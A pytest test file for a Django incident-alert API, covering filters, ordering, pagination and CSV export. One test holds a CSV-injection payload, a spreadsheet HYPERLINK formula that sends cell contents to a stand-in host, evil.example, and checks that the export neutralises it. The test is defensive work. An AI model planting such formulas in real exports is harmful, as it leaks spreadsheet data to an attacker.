import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from alerts.services import incident_acknowledge, incident_resolve


@pytest.fixture
def world(make_site, make_sensor, make_member, make_incident):
    site_a, site_b = make_site("Alpha", default_threshold=0.5), make_site("Beta", default_threshold=0.5)
    manager = make_member(site_a, "manager")
    make_member(site_b, "viewer", user=manager)
    mic_a, mic_b = make_sensor(site_a, "Mic A"), make_sensor(site_b, "Mic B")
    now = timezone.now()
    incidents = {
        "a_new_low": make_incident(
            mic_a, peak_score=0.55, occurred_at=now - timedelta(hours=3), opened_at=now - timedelta(hours=3)
        ),
        "a_ack_high": make_incident(
            mic_a, peak_score=0.9, occurred_at=now - timedelta(hours=2), opened_at=now - timedelta(hours=2)
        ),
        "b_resolved_critical": make_incident(
            mic_b, peak_score=0.99, occurred_at=now - timedelta(hours=1), opened_at=now - timedelta(hours=1)
        ),
    }
    incident_acknowledge(incident=incidents["a_ack_high"], user=manager)
    incident_resolve(incident=incidents["b_resolved_critical"], user=make_member(site_b, "operator"), resolution="test")
    return {"manager": manager, "site_a": site_a, "site_b": site_b, "mic_a": mic_a, "now": now, **incidents}


def _ids(client, query=""):
    response = client.get(f"/api/v1/incidents/{query}")
    assert response.status_code == 200, response.json()
    return [item["id"] for item in response.json()["results"]]


def test_filters(world, client_for):
    client = client_for(world["manager"])
    pk = {name: world[name].pk for name in ("a_new_low", "a_ack_high", "b_resolved_critical")}

    assert _ids(client) == [pk["b_resolved_critical"], pk["a_ack_high"], pk["a_new_low"]]
    assert _ids(client, f"?site={world['site_a'].pk}") == [pk["a_ack_high"], pk["a_new_low"]]
    assert _ids(client, f"?sensor={world['mic_a'].pk}") == [pk["a_ack_high"], pk["a_new_low"]]
    assert _ids(client, "?status=new") == [pk["a_new_low"]]
    assert _ids(client, "?status=new&status=resolved") == [pk["b_resolved_critical"], pk["a_new_low"]]
    assert _ids(client, "?status=new,acknowledged") == [pk["a_ack_high"], pk["a_new_low"]]
    assert _ids(client, "?priority=critical,high") == [pk["b_resolved_critical"], pk["a_ack_high"]]
    after = (world["now"] - timedelta(hours=2, minutes=30)).isoformat().replace("+00:00", "Z")
    before = (world["now"] - timedelta(minutes=90)).isoformat().replace("+00:00", "Z")
    assert _ids(client, f"?opened_after={after}&opened_before={before}") == [pk["a_ack_high"]]


def test_ordering_by_priority_rank(world, client_for):
    client = client_for(world["manager"])

    assert _ids(client, "?ordering=-priority_rank") == [
        world["b_resolved_critical"].pk,
        world["a_ack_high"].pk,
        world["a_new_low"].pk,
    ]


def test_bad_filter_values_are_400(world, client_for):
    response = client_for(world["manager"]).get("/api/v1/incidents/?status=exploded")

    assert response.status_code == 400
    assert set(response.json()) == {"error"}


def test_pagination(world, client_for):
    body = client_for(world["manager"]).get("/api/v1/incidents/?page_size=2").json()

    assert body["count"] == 3 and len(body["results"]) == 2 and body["next"]


def test_csv_export_streams_the_filtered_list(world, client_for):
    response = client_for(world["manager"]).get(f"/api/v1/incidents/export.csv?site={world['site_a'].pk}")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [int(row["id"]) for row in rows] == [world["a_ack_high"].pk, world["a_new_low"].pk]
    assert rows[0]["status"] == "acknowledged" and rows[0]["acknowledged_by"] == world["manager"].username
    assert rows[0]["site"] == "Alpha" and rows[0]["sensor"] == "Mic A"


def test_csv_export_keeps_formulas_in_free_text_from_running_in_a_spreadsheet(world, client_for):
    """CSV injection: a note or a name starting with = + - @ is prefixed with ' (read as text)."""
    incident = world["b_resolved_critical"]
    incident.resolution_note = '=HYPERLINK("http://evil.example/?"&A1,"details")'
    incident.save(update_fields=["resolution_note"])
    incident.sensor.location = "+1 floor, -2 stairs"
    incident.sensor.save(update_fields=["location"])

    response = client_for(world["manager"]).get(f"/api/v1/incidents/export.csv?site={world['site_b'].pk}")

    row = next(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert row["resolution_note"] == """'=HYPERLINK("http://evil.example/?"&A1,"details")"""
    assert row["location"] == "'+1 floor, -2 stairs"
    assert row["sensor"] == "Mic B" and row["peak_score"] == "0.9900"  # plain text and numbers unchanged


def test_csv_export_accepts_an_explicit_text_csv_request(world, client_for):
    response = client_for(world["manager"]).get("/api/v1/incidents/export.csv", HTTP_ACCEPT="text/csv")

    assert response.status_code == 200
    assert b"".join(response.streaming_content).decode().splitlines()[0].startswith("id,site,sensor")


def test_selector_filters_without_http(world):
    from alerts.selectors import incident_list

    incidents = incident_list(user=world["manager"], filters={"status": ["new", "acknowledged"], "priority": "low"})

    assert list(incidents) == [world["a_new_low"]]
